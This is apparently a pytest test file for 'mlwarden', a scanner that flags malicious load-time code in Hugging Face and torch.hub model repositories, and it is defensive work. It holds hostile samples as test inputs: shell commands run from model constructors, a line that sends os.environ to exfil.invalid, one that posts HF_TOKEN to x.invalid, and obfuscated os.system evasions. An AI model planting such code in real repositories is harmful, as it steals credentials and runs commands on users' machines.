# ruff: noqa: E501  (one source snippet per line reads best)
"""Load-time entry points: what from_pretrained and torch.hub.load run after the import."""

from __future__ import annotations

import glob
import json
import os
import textwrap
from collections.abc import Mapping
from pathlib import Path

import pytest
import transformers

from mlwarden.report.model import Report, Verdict
from mlwarden.scan.context import Limits, ScanContext
from mlwarden.scan.engine import scan_paths
from mlwarden.scan.remote_code import analyze_python

MARKER = "/tmp/mlwarden-never/marker"  # payload text only: nothing here ever runs


def analyse(src: str, path: str = "repo/modeling_x.py") -> ScanContext:
    ctx = ScanContext(display_path=path, limits=Limits())
    analyze_python(textwrap.dedent(src).encode(), ctx)
    return ctx


def bad(ctx: ScanContext) -> dict[tuple[str, int], str]:
    return {(f.rule, f.location.line): f.message for f in ctx.findings
            if f.verdict is not Verdict.CLEAN and f.location and f.location.line}


MODEL_INIT = f"""\
import os
import torch.nn as nn
from transformers import PreTrainedModel

class EvilModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        os.system("touch {MARKER}")
"""
CONFIG_INIT = f"""\
import subprocess
from transformers import PretrainedConfig

class EvilConfig(PretrainedConfig):
    def __init__(self, **kwargs):
        subprocess.Popen(["touch", "{MARKER}"])
        super().__init__(**kwargs)
"""
POST_INIT = f"""\
import os
from transformers.modeling_utils import PreTrainedModel

class Base(PreTrainedModel):
    def _init_weights(self, module):
        self._prepare()

    def _prepare(self):
        os.popen("touch {MARKER}")

class EvilForCausalLM(Base):
    pass
"""
NN_MODULE = f"""\
import subprocess
from torch import nn

class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.build()

    def build(self):
        subprocess.run(["touch", "{MARKER}"])
"""
TOKENIZER = f"""\
import os
from transformers import PreTrainedTokenizer

class EvilTokenizer(PreTrainedTokenizer):
    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        os.system("touch {MARKER}")
        return super().from_pretrained(*args, **kwargs)
"""


@pytest.mark.parametrize("src, line, why", [
    (MODEL_INIT, 8, "in EvilModel.__init__): runs when from_pretrained instantiates EvilModel"),
    (CONFIG_INIT, 6, "runs when from_pretrained instantiates EvilConfig"),
    (POST_INIT, 9, "called from Base._init_weights): runs when from_pretrained instantiates"),
    (NN_MODULE, 10, "runs when the model builds Block (an nn.Module)"),
    (TOKENIZER, 7, "runs when from_pretrained instantiates EvilTokenizer"),
])
def test_process_in_construction_is_malicious(src: str, line: int, why: str) -> None:
    got = bad(analyse(src))
    message = got[("code-import-process", line)]
    assert "at load time" in message and why in message, message


def test_exfiltration_at_load_time() -> None:
    src = """\
    import os, urllib.parse, urllib.request
    import torch.nn as nn

    class EvilForCausalLM(nn.Module):
        def __init__(self, config):
            super().__init__()
            urllib.request.urlopen("http://exfil.invalid/?" + urllib.parse.urlencode(dict(os.environ)))
    """
    got = bad(analyse(src))
    assert "the same load-time code reads the whole environment" in got[("code-exfiltration", 7)]
    # a secret read at import time and sent at load time is exfiltration too
    src = """\
    import os, requests
    from transformers import PretrainedConfig
    TOKEN = os.environ.get("HF_TOKEN")

    class C(PretrainedConfig):
        def __init__(self, **kw):
            requests.post("https://x.invalid", data=TOKEN)
    """
    assert ("code-exfiltration", 7) in bad(analyse(src))


def test_network_alone_at_load_time_is_suspicious() -> None:
    ctx = analyse("""\
    import requests
    from torch import nn

    class M(nn.Module):
        def __init__(self):
            super().__init__()
            self.vocab = requests.get("https://x.invalid/vocab.json").json()
    """)
    assert ctx.verdict is Verdict.SUSPICIOUS
    assert set(bad(ctx)) == {("code-import-network", 7)}


@pytest.mark.parametrize("src, line", [
    # forward runs when the user calls the model, not on load
    ("import os\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        os.system('nvidia-smi')\n        return x\n", 5),
    # a class that loaders never build
    ("import os\nclass Helper:\n    def __init__(self):\n        os.system('make')\n", 4),
    # a plain function of a modeling file
    ("import subprocess\ndef build_kernels():\n    subprocess.run(['nvcc', '--version'])\n", 3),
])
def test_code_not_run_on_load_stays_suspicious(src: str, line: int) -> None:
    ctx = analyse(src)
    assert ctx.verdict is Verdict.SUSPICIOUS
    assert set(bad(ctx)) == {("code-process", line)}


def test_hubconf_entry_points() -> None:
    src = f"""\
    dependencies = ["torch"]
    import os

    def tinynet(pretrained=False, **kwargs):
        os.system("touch {MARKER}")

    def _helper():
        os.system("make")

    class BigNet:
        def __init__(self):
            os.popen("id")
    """
    got = bad(analyse(src, "repo/hubconf.py"))
    assert "runs when torch.hub.load calls the entry point tinynet" in got[("code-import-process", 5)]
    assert ("code-process", 8) in got  # private: not an entry point
    assert ("code-import-process", 12) in got  # a public class is called too
    # the same functions in any other file are not entry points
    got = bad(analyse(src, "repo/models.py"))
    assert ("code-process", 5) in got and ("code-import-process", 5) not in got
    # inside an archive
    assert ("code-import-process", 5) in bad(analyse(src, "repo.zip!hubconf.py"))


def test_ordinary_construction_is_clean() -> None:
    ctx = analyse("""\
    import os, json, logging
    import torch
    from torch import nn
    from transformers import PreTrainedModel, PretrainedConfig, PreTrainedTokenizer
    logger = logging.getLogger(__name__)

    class XConfig(PretrainedConfig):
        def __init__(self, hidden=8, **kwargs):
            self.hidden = hidden
            self.parallel = os.environ.get("TOKENIZERS_PARALLELISM", "false")
            super().__init__(**kwargs)

    class XPreTrainedModel(PreTrainedModel):
        config_class = XConfig

        def _init_weights(self, module):
            if isinstance(module, nn.Linear):
                module.weight.data.normal_(0.0, 0.02)

    class XModel(XPreTrainedModel):
        def __init__(self, config):
            super().__init__(config)
            self.layers = nn.ModuleList([nn.Linear(8, 8) for _ in range(2)])
            self.post_init()

    class XTokenizer(PreTrainedTokenizer):
        def __init__(self, vocab_file, **kwargs):
            with open(vocab_file, encoding="utf-8") as f:
                self.vocab = json.load(f)
            super().__init__(**kwargs)
    """)
    assert ctx.verdict is Verdict.CLEAN, ctx.findings
    hub = analyse("""\
    dependencies = ["torch"]
    import torch
    from torch import nn

    def tinynet(pretrained=False, progress=True, **kwargs):
        model = nn.Linear(2, 2)
        if pretrained:
            url = "https://example.invalid/tinynet.pth"
            model.load_state_dict(torch.hub.load_state_dict_from_url(url, progress=progress))
        return model
    """, "repo/hubconf.py")
    assert hub.verdict is Verdict.CLEAN, hub.findings


# ------------------------------------------------------------------------------ repository


def _repo(root: Path, files: dict[str, str], auto_map: Mapping[str, object] | None = None,
          extra: dict[str, object] | None = None) -> Path:
    root.mkdir(parents=True)
    doc: dict[str, object] = {"model_type": "x", **(extra or {})}
    if auto_map is not None:
        doc["auto_map"] = auto_map
    (root / "config.json").write_text(json.dumps(doc))
    for name, text in files.items():
        (root / name).write_text(textwrap.dedent(text))
    return root


def _malicious(report: Report, root: Path) -> dict[str, list[str]]:
    return {Path(f.path).name: [x.message for x in f.findings if x.verdict is Verdict.MALICIOUS]
            for f in report.files if f.path != str(root) and f.verdict is Verdict.MALICIOUS}


def test_auto_map_classes_are_load_roots_whatever_their_base(tmp_path: Path) -> None:
    # Bases the per-file analysis cannot recognise: only the config says they are loaded.
    root = _repo(tmp_path / "r", {
        "configuration_x.py": f"""\
            import subprocess
            class XConfig:
                def __init__(self, **kw):
                    subprocess.run(["touch", "{MARKER}"])
            """,
        "modeling_x.py": """\
            import os
            from some_framework import Base
            class XModel(Base):
                def __init__(self, config):
                    os.system("id")
            class Unused(Base):
                def __init__(self):
                    os.system("make")
            """,
    }, {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"})
    per_file = analyse((root / "modeling_x.py").read_text())
    assert per_file.verdict is Verdict.SUSPICIOUS  # on its own: not a known base
    report = scan_paths([str(root)])
    got = _malicious(report, root)
    assert set(got) == {"configuration_x.py", "modeling_x.py"}
    (msg,) = got["modeling_x.py"]
    assert "runs when from_pretrained instantiates XModel (auto_map.AutoModel in config.json)" in msg
    assert "line 5" not in msg and "make" not in msg  # Unused is not named by auto_map
    (msg,) = got["configuration_x.py"]
    assert "from_pretrained instantiates XConfig (auto_map.AutoConfig in config.json)" in msg
    (summary,) = [x for f in report.files if f.path == str(root) for x in f.findings
                  if x.rule == "repo-remote-code"]
    assert "configuration_x.py (malicious;" in summary.message


def test_bases_in_sibling_modules_are_followed(tmp_path: Path) -> None:
    root = _repo(tmp_path / "r", {
        "base_x.py": f"""\
            import os
            class Base:
                def __init__(self, config):
                    self.setup()
                def setup(self):
                    os.system("touch {MARKER}")
            """,
        "modeling_x.py": """\
            from .base_x import Base
            class XModel(Base):
                def __init__(self, config):
                    super().__init__(config)
            """,
        "tokenization_x.py": """\
            from .tok_impl import XTokenizer
            """,
        "tok_impl.py": """\
            import subprocess
            class XTokenizer:
                def __init__(self, **kw):
                    subprocess.check_output(["id"])
            """,
    }, {"AutoModel": "modeling_x.XModel", "AutoTokenizer": ["tokenization_x.XTokenizer", None]})
    got = _malicious(scan_paths([str(root)]), root)
    assert set(got) == {"base_x.py", "tok_impl.py"}
    (msg,) = got["base_x.py"]
    assert "(in Base.setup, called from Base.__init__): runs when from_pretrained instantiates " \
           "XModel (auto_map.AutoModel in config.json)" in msg
    assert "from_pretrained instantiates XTokenizer" in got["tok_impl.py"][0]


def test_custom_pipelines_and_no_duplicates(tmp_path: Path) -> None:
    root = _repo(tmp_path / "r", {
        "pipe_x.py": """\
            import os
            class XPipe:
                def __init__(self, *a, **kw):
                    os.system("id")
            """,
        "modeling_x.py": MODEL_INIT,
    }, {"AutoModel": "modeling_x.EvilModel"},
        {"custom_pipelines": {"x-task": {"impl": "pipe_x.XPipe"}}})
    report = scan_paths([str(root)])
    got = _malicious(report, root)
    assert "pipeline() instantiates XPipe (custom_pipelines.x-task in config.json)" in got["pipe_x.py"][0]
    # modeling_x.py: the per-file analysis already rated it; the repository adds nothing
    (model,) = [f for f in report.files if f.path.endswith("modeling_x.py")]
    assert [x.rule for x in model.findings if x.verdict is Verdict.MALICIOUS] == ["code-import-process"]


def test_detection_gap_reproducers_are_malicious(tmp_path: Path) -> None:
    """The benchmark's former remote-code gaps, as repositories (see benchmarks/detection.py)."""
    cases = {
        "model-init": ({"modeling_evil.py": NN_MODULE.replace("Block", "EvilForCausalLM")},
                       {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}),
        "config-init": ({"configuration_evil.py": CONFIG_INIT},
                        {"AutoConfig": "configuration_evil.EvilConfig"}),
        "module-dict": ({"modeling_evil.py": "import os\nos.__dict__['sys' + 'tem']('id')\n"},
                        {"AutoModel": "modeling_evil.M"}),
        "vars-module": ({"modeling_evil.py": "import os\nvars(os)['system']('id')\n"},
                        {"AutoModel": "modeling_evil.M"}),
        "alias-in-dict": ({"modeling_evil.py": "from os import system as s\nHOOKS = {'go': s}\nHOOKS['go']('id')\n"},
                          {"AutoModel": "modeling_evil.M"}),
        "loop-variable": ({"modeling_evil.py": "import os\nfor fn in [os.system]:\n    fn('id')\n"},
                          {"AutoModel": "modeling_evil.M"}),
    }
    for name, (files, auto_map) in cases.items():
        root = _repo(tmp_path / name, files, auto_map)
        report = scan_paths([str(root)])
        assert report.verdict is Verdict.MALICIOUS, name
    hub = tmp_path / "hub"
    hub.mkdir()
    (hub / "hubconf.py").write_text("import os\ndef tinynet():\n    os.system('id')\n")
    assert scan_paths([str(hub)]).verdict is Verdict.MALICIOUS


# ------------------------------------------------------------------------------ false positives

_MODELS = Path(transformers.__file__).parent / "models"
_OWN_FILES = sorted(glob.glob(str(_MODELS / "*" / "modeling_*.py"))
                    + glob.glob(str(_MODELS / "*" / "tokenization_*.py"))
                    + glob.glob(str(_MODELS / "*" / "configuration_*.py")))
# Every 8th file keeps the test short; MLWARDEN_FULL_FP=1 analyses all of them (~30 s).
_SAMPLE = _OWN_FILES if os.environ.get("MLWARDEN_FULL_FP") else _OWN_FILES[::8]


def test_transformers_own_model_files_stay_clean() -> None:
    assert len(_SAMPLE) > 50
    flagged = {}
    for path in _SAMPLE:
        if "/auto/" in path:  # the Auto* factories import modules by computed name
            continue
        ctx = ScanContext(display_path=path, limits=Limits())
        analyze_python(Path(path).read_bytes(), ctx)
        if ctx.verdict is not Verdict.CLEAN:
            flagged[path] = [(f.rule, f.message) for f in ctx.findings if f.verdict is not Verdict.CLEAN]
    assert flagged == {}
